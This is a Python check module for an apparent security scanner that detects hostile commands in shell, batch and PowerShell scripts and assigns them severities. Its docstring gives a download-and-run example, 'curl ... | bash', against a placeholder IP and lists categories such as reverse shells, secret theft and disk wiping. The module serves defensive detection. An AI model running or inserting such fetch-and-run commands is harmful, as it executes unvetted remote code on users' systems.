"""Shell, batch and PowerShell scripts with hostile commands.

## What it looks for

Commands that fetch something and run it, decode text and run it, join a shell to a network connection, wipe
disks or home directories, arrange to be run again, send secrets away, switch off protection, raise
privileges or mine currency. Quoting tricks are undone first, and base64 in the script is decoded and
searched too.

## Why it matters

Set-up scripts lie beside many models and are run without being read.

## Example

    curl -s http://203.0.113.5/setup | bash

## Fix

Do not run the script. Fetch what it installs from its maker, with a digest to compare.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from violet.checks.base import Context, check
from violet.domain import Outcome, Rule, Severity

if TYPE_CHECKING:
    from collections.abc import Iterable

RULE = Rule(
    id="artifact/script-hostile",
    title="Script holds hostile commands",
    severity=Severity.HIGH,
    fix="Do not run the script; fetch what it installs from its maker.",
    techniques=("AML.T0050", "AML.T0011.000"),
    cwe=(506, 78),
)

_SEVERITIES = {
    "download-run": Severity.MEDIUM,
    "decode-run": Severity.HIGH,
    "reverse-shell": Severity.CRITICAL,
    "destroy": Severity.HIGH,
    "persist": Severity.HIGH,
    "steal": Severity.CRITICAL,
    "hide": Severity.MEDIUM,
    "privilege": Severity.MEDIUM,
    "mine": Severity.HIGH,
}
"""Installers of well-known tools are run by piping a download to a shell, so that alone is not high."""


@check(RULE, formats=("shell",))
def judge(context: Context) -> Iterable[Outcome]:
    from violet.formats.shell.commands import ShellFacts

    facts = context.facts(ShellFacts)
    if facts is None:
        return
    for command in facts.commands:
        yield context.finding(
            f"A command {command.meaning}.",
            evidence=command.text,
            key=f"{command.kind}:{command.text[:120]}",
            line=facts.document.line(command.start),
            severity=_severity(command.kind, command.text),
        )


def _severity(kind: str, text: str) -> Severity:
    host = text.partition("https://")[2][:1]
    if kind == "download-run" and (not host or host.isdigit()):
        return Severity.HIGH
    return _SEVERITIES[kind]
